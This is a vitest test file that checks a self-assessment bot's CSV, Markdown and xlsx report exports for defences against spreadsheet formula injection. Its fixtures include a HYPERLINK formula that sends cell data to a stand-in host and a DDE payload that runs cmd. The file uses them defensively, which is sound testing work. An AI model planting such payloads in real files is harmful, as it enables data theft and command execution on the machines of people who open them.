import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { reportToCsv, reportToMarkdown, reportToXlsx } from "../../../../adapters/report/write-report.js";
import type { AssessmentReport } from "../../../../bot/index.js";
import { itemOf, say } from "../../../support/engine.js";
import { createFakeEngine, type FakeEngine } from "../../../support/fakes/index.js";

describe("report exports with hostile notes", () => {
  let fake: FakeEngine;
  let report: AssessmentReport;
  beforeAll(async () => {
    fake = createFakeEngine();
    const code = itemOf(await say(fake.engine, "kim", "開始自評")).assessmentId;
    await say(fake.engine, "kim", '是，=HYPERLINK("https://x.invalid/?d="&A1,"點我")');
    await say(fake.engine, "kim", "否，+1 | 第一欄\n第二行");
    await say(fake.engine, "kim", "不適用，@SUM(1+1)*cmd|' /C calc'!A0");
    const built = await fake.engine.report(code, "zh", { channel: "cli", userId: "kim" });
    if (!built) throw new Error("no report");
    report = built;
  });
  afterAll(() => fake.close());

  const notes = () => report.rows.map((r) => r.evidence);

  it("records the notes as typed", () => {
    expect(notes()).toEqual(['=HYPERLINK("https://x.invalid/?d="&A1,"點我")', "+1 | 第一欄\n第二行", "@SUM(1+1)*cmd|' /C calc'!A0"]);
  });

  it("CSV: a cell beginning with = + - @ tab or CR starts with an apostrophe", () => {
    const csv = reportToCsv(report);
    expect(csv).toContain(`"'=HYPERLINK(""https://x.invalid/?d=""&A1,""點我"")"`);
    expect(csv).toContain(`"'+1 | 第一欄\n第二行"`);
    expect(csv).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(csv).not.toMatch(/(^|,)"?[=+@]/m);
    const tabbed = { ...report, rows: report.rows.map((r, i) => ({ ...r, evidence: ["\tx", "\rx", "-2+3"][i] ?? "" })) };
    const lines = reportToCsv(tabbed);
    expect(lines).toContain("'\tx");
    expect(lines).toContain(`"'\rx"`);
    expect(lines).toContain("'-2+3");
  });

  it("Markdown: pipes escaped, line breaks as <br>, formula prefix neutralised, table intact", () => {
    const md = reportToMarkdown(report);
    expect(md).toContain("'+1 \\| 第一欄<br>第二行");
    expect(md).toContain("'=HYPERLINK(");
    const table = md.split("\n").filter((line) => line.startsWith("| 採行安全措施") || line.startsWith("| 監督受託者"));
    for (const line of table) expect(line.split(/(?<!\\)\|/).length - 2).toBe(6);
    expect(md).toMatch(/^\| --- \| --- \|/m);
  });

  it("xlsx: the same cells are text with an apostrophe, never formulas", async () => {
    const workbook = new ExcelJS.Workbook();
    const file = await reportToXlsx(report);
    await workbook.xlsx.load(file.buffer.slice(file.byteOffset, file.byteOffset + file.byteLength) as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const evidence = [5, 6, 7].map((row) => sheet?.getRow(row).getCell(4));
    expect(evidence.map((c) => c?.type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
    expect(evidence.map((c) => String(c?.value).slice(0, 2))).toEqual(["'=", "'+", "'@"]);
  });
});
